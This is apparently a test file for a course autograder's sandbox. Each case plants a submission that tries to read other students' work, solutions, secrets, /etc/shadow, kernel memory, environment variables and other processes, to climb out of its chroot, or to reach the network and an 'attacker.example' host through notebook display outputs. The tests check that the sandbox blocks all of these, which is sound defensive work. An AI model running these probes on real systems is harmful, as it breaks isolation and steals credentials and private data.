"""What a submission may not learn: others' work, answers, secrets, the machine, the network.

Each case prints what it finds with `won`; the canaries' text, the course's secret and the environment must not
appear in any output. The answers are right and keep their points.
"""

import functools

from submissions.attacking import CLASS, TOOLS, tries
from submissions.making import FULL, RIGHT, WITHOUT_TOKEN_MASK, Work, case

leak = functools.partial(case, outcome="graded", score=FULL, attack="leaks")


@leak()
def reads_the_neighbours(work: Work) -> None:
    """Other submissions, the course's state, the home folder, by their paths."""
    tries(
        work,
        "for target in TARGETS:\n"
        "    attempt(lambda: os.listdir(target), lambda: open(target + '/canary.txt').read(),\n"
        "            lambda: os.stat(target), lambda: os.listdir(os.path.dirname(target))[1])\n",
    )


@leak()
def reads_the_project(work: Work) -> None:
    """Solutions, misconceptions, ledger, secret, gradebook, engine and published examples."""
    tries(
        work,
        "for name in ('solutions', 'solutions/misconceptions', '.spotlight', '.spotlight/secret', '.spotlight/ledger',\n"
        "             'course/gradebook.db', 'course/submitted', 'course/source', 'course/autograded', 'autograder',\n"
        "             'autograder/published', 'tests', '.git'):\n"
        "    attempt(lambda: open(os.path.join(ROOT, name)).read(), lambda: os.listdir(os.path.join(ROOT, name)))\n",
    )


@leak()
def reads_by_links(work: Work) -> None:
    """Links to the targets, made here or handed in beside the notebook (the test puts some there)."""
    tries(
        work,
        "for number, target in enumerate(TARGETS):\n    os.symlink(target, f'link-{number}')\n"
        "    attempt(lambda: os.link(target + '/canary.txt', f'hard-{number}'))\n"
        "for path in glob.glob('**', recursive=True):\n    attempt(lambda: open(path + '/canary.txt').read())\n"
        "attempt(lambda: open('linked.csv').read(), lambda: os.listdir('linked'), lambda: open('.hidden').read(),\n"
        "        lambda: open('other.ipynb').read())\nassert open('data.csv').read() == '1,2'\n",
    )


@leak()
def climbs_out_of_its_root(work: Work) -> None:
    """`..` above the root, chroot, a folder kept open, mounts, file handles."""
    tries(
        work,
        "here = os.open('/', os.O_RDONLY)\n"
        "attempt(lambda: os.chroot('/tmp'), lambda: libc.mount(b'/', b'/tmp', None, 4096, None) + 1 or 1 / 0)\n"
        "os.fchdir(here)\nfor _ in range(30):\n    os.chdir('..')\n"
        "attempt(lambda: open(os.path.join('.', TARGETS[0].lstrip('/'), 'canary.txt')).read())\n"
        "attempt(lambda: sorted({'boot', 'var', 'srv', 'opt', 'mnt', 'media'} & set(os.listdir('/')))[0])\n",
    )


@leak()
def reads_other_processes(work: Work) -> None:
    """/proc holds this shell's processes alone: no environment, memory, root or open file of anybody else."""
    tries(
        work,
        "mine = {1, os.getpid(), os.getppid()}\n"
        "for name in os.listdir('/proc'):\n    if name.isdigit() and int(name) not in mine:\n        won(name)\n"
        "for number in range(2, 33000):\n    attempt(lambda: os.kill(number, 0) or number)\n"
        "for what in ('root', 'cwd', 'exe', 'environ', 'mem', 'maps', 'fd'):\n"
        "    attempt(lambda: open(f'/proc/{os.getppid()}/{what}').read())\n"
        "attempt(lambda: open('/proc/1/root' + TARGETS[0] + '/canary.txt').read())\n",
    )


@leak()
def reads_the_kernel(work: Work) -> None:
    """Kernel memory and log, keys, other mounts, disks."""
    tries(
        work,
        "for path in ('/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/tty',\n"
        "             '/dev/ptmx', '/proc/1/mountinfo/..', '/sys/kernel', '/etc/shadow', '/etc/machine-id', '/etc/hosts'):\n"
        "    attempt(lambda: open(path, 'rb').read(16), lambda: os.listdir(path))\n"
        "room = ctypes.create_string_buffer(4096)\n"
        "if libc.klogctl(3, room, 4096) > 0:\n    won(room.value)\n",
    )


@leak()
def reads_the_environment(work: Work) -> None:
    """The grader's environment holds passwords (the test puts one there); a shell gets another one."""
    tries(
        work,
        "print(dict(os.environ))\nfor each in ('self', '1'):\n"
        "    try:\n        print(open(f'/proc/{each}/environ').read())\n    except OSError:\n        pass\n"
        "environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n"
        "for number in range(100):\n    if not environment[number]:\n        break\n    print(environment[number])\n",
    )


@leak()
def searches_the_heap(work: Work) -> None:
    """The warm process has imported the engine: it must have loaded no answer, no key and no secret."""
    tries(
        work,
        "from autograder import keys\n"
        "for name, module in list(sys.modules.items()):\n"
        "    if name.split('.')[0] == 'solutions' or 'misconception' in name or 'published' in name:\n        won(name)\n"
        "    if name in ('autograder.ledger', 'autograder.settle', 'autograder.examiner', 'autograder.gradebook'):\n"
        "        won(name)\n"
        "for each in vars(keys).values():\n"
        "    if hasattr(each, 'cache_info') and each.cache_info().currsize:\n        won(each)\n"
        "for each in gc.get_objects():\n"
        "    if type(each).__name__ in ('LiveKey', 'PublishedKey', 'Misconception'):\n        won(each)\n"
        "    if isinstance(each, dict):\n"
        "        for key, value in list(each.items()):\n"
        "            if isinstance(key, str) and 'secret' in key and isinstance(value, bytes):\n                won(value)\n",
    )


@leak()
def searches_the_stack(work: Work) -> None:
    """The frames below its own belong to the fork server; they hold its socket, and nothing to tell."""
    tries(
        work,
        "frame, words = sys._getframe(), []\nwhile frame:\n"
        "    if 'autograder' in frame.f_code.co_filename:\n        words.append(repr(frame.f_locals))\n"
        "    frame = frame.f_back\n"
        "print(' '.join(words)[:100_000])\n",
    )


@leak()
def uses_what_is_open(work: Work) -> None:
    """Of the server's files only the shell's own line is open: no pipe, no listening socket, no folder."""
    tries(
        work,
        "for number in range(4096):\n"
        "    try:\n        kind = os.fstat(number)\n    except OSError:\n        continue\n"
        "    if stat.S_ISCHR(kind.st_mode) and os.readlink(f'/proc/self/fd/{number}') == '/dev/null':\n        continue\n"
        "    if stat.S_ISSOCK(kind.st_mode) and number == 3:\n        continue\n"
        "    won(number, os.readlink(f'/proc/self/fd/{number}'))\n",
    )


@leak()
def talks_to_the_fork_server(work: Work) -> None:
    """Its socket and the other shells' folders are not in this world, and abstract names neither."""
    tries(
        work,
        "for path in glob.glob('/tmp/**', recursive=True) + glob.glob('/run/**') + glob.glob('/var/**'):\n"
        "    if path.endswith('/socket') or 'shell-' in path:\n        won(path)\n"
        f"for path in glob.glob('/tmp/spotlight-*/socket') + ['\\0{CLASS.name}']:\n"
        "    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):\n"
        "        attempt(lambda: socket.socket(socket.AF_UNIX, kind).connect(path))\n",
    )


@leak()
def reaches_the_network(work: Work) -> None:
    """The internet, this machine (the test listens on PORTS), names, raw packets, and the line to a host."""
    tries(
        work,
        "ports = [int(line) for line in open('ports.txt')]\n"
        "for host in ('127.0.0.1', '::1', 'localhost', '0.0.0.0', '192.0.2.1', '10.0.0.1', '169.254.169.254'):\n"
        "    for port in ports:\n        attempt(lambda: socket.create_connection((host, port), 0.1))\n"
        "attempt(lambda: socket.gethostbyname('example.org'),\n"
        "        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)),\n"
        "        lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW), lambda: socket.socket(socket.AF_NETLINK),\n"
        "        lambda: socket.socket(40, socket.SOCK_STREAM), lambda: socket.if_nameindex())\n",
    )


@leak()
def asks_the_operating_system(work: Work) -> None:
    """Magics and commands: `!cat` is not run, subprocesses live in the same world."""
    work.add(
        TOOLS + "subprocess.run(['/bin/sh', '-c', 'cat ' + TARGETS[0] + '/canary.txt'])\n"
        "attempt(lambda: subprocess.check_output(['/bin/cat', TARGETS[0] + '/canary.txt']))\n"
        "found = !cat {TARGETS[0]}/canary.txt\nprint(found)\n",
        below="imports",
    )
    work.add("%run {TARGETS[0]}/canary.txt\n%load {TARGETS[0]}/canary.txt\n%pycat {TARGETS[0]}/canary.txt")
    work.add("%%bash\ncat " + "$HOME/../*/*")


NOTE = "a note for the next student"


@leak()
def leaves_a_note(work: Work) -> None:
    """Files, shared memory and clipboard of this shell end with it: the next case must not find the note."""
    tries(
        work,
        "for folder in ('/tmp', '/dev/shm', '/', os.getcwd(), '/var/tmp', '/run', sys.prefix, '/etc', '/home'):\n"
        f"    try:\n        open(folder + '/note.txt', 'w').write({NOTE[:6]!r} + {NOTE[6:]!r})\n"
        "    except OSError:\n        pass\n"
        "import spotlight, autograder\n"
        "spotlight.note = autograder.note = np.note = 'here'\n",
    )


@leak()
def looks_for_a_note(work: Work) -> None:
    """What the case before left, in files or in the modules that all shells share."""
    tries(
        work,
        "import spotlight, autograder\n"
        "for folder in ('/tmp', '/dev/shm', '/', os.getcwd(), '/var/tmp', '/run', sys.prefix, '/etc', '/home'):\n"
        "    attempt(lambda: open(folder + '/note.txt').read())\n"
        "attempt(lambda: spotlight.note, lambda: autograder.note, lambda: np.note)\n",
    )


@leak(score=WITHOUT_TOKEN_MASK)
def shows_private_inputs(work: Work) -> None:
    """It keeps the inputs in a file and shows them later: allowed, and worth nothing.

    They are its own, and an answer that knows them has other code, so it is asked with other seeds.
    """
    work.write(
        "token_mask",
        "import os\ndef token_mask(lengths, seq):\n    with open('/tmp/seen', 'a') as file:\n"
        "        file.write(repr((lengths.tolist(), seq)))\n    raise KeyError(lengths.tolist())",
    )
    work.add("print(open('/tmp/seen').read())", below="token_mask-check")


@leak(score=WITHOUT_TOKEN_MASK)
def a_failure_that_tells(work: Work) -> None:
    """Its exception's name, text and line hold whatever it found; nothing is to be found."""
    work.write(
        "token_mask",
        TOOLS + "def token_mask(lengths, seq):\n    found = []\n    for target in TARGETS:\n"
        "        try:\n            found.append(open(target + '/canary.txt').read())\n"
        "        except OSError:\n            pass\n"
        "    raise type('Tells', (Exception,), {})(found)",
    )


@leak()
def calls_home_from_the_feedback(work: Work) -> None:
    """Scripts, styles and pictures with addresses, in every output format: text and PNG are all that is kept."""
    tries(
        work,
        "from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display, publish_display_data\n"
        "address = '//attacker.example/x'\n"
        "display(HTML(f'<script src={address}></script>'), Javascript(f'fetch({address!r})'),\n"
        "        Markdown(f'![]({address})'), Latex(f'\\\\href{{{address}}}'))\n"
        "publish_display_data({'application/vnd.jupyter.widget-view+json': {'model_id': address}, 'text/html': address})\n"
        "from autograder import shell\n"
        "shell.send({'type': 'display', 'data': {'image/png': f'\" onerror=fetch({address!r})', 'text/html': address}})\n",
    )


@leak()
def a_right_answer_that_looks_around(work: Work) -> None:
    """While it is asked it reads, too; the answer is right and counts."""
    work.write(
        "token_mask",
        TOOLS + "def token_mask(lengths, seq):\n"
        "    attempt(lambda: open(TARGETS[0] + '/canary.txt').read(), lambda: os.listdir(ROOT + '/solutions'))\n"
        + RIGHT.split("\n", 1)[1],
    )
